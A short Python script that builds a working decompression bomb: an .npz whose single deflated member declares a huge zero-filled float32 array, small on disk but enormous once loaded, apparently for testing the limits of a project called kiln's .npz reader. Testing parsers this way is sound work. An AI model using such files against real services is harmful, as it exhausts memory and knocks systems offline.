"""Writes an .npz whose one member declares a large float32 array of zeros,
deflated (a few hundred KB on disk): a decompression bomb for kiln's .npz
reader. Usage: npz_bomb.py OUT.npz NAME DIM0xDIM1x...
"""
import struct
import sys
import zipfile

out, name, dims = sys.argv[1], sys.argv[2], [int(d) for d in sys.argv[3].split("x")]
count = 1
for d in dims:
    count *= d
shape = "(" + "".join(f"{d}, " for d in dims).rstrip(" ") + ")"
header = "{'descr': '<f4', 'fortran_order': False, 'shape': %s, }" % shape
header += " " * (63 - (10 + len(header)) % 64) + "\n"
prefix = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
chunk = bytes(1 << 20)
with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
    with z.open(name + ".npy", "w", force_zip64=True) as f:
        f.write(prefix)
        left = count * 4
        while left:
            n = min(left, len(chunk))
            f.write(chunk[:n])
            left -= n
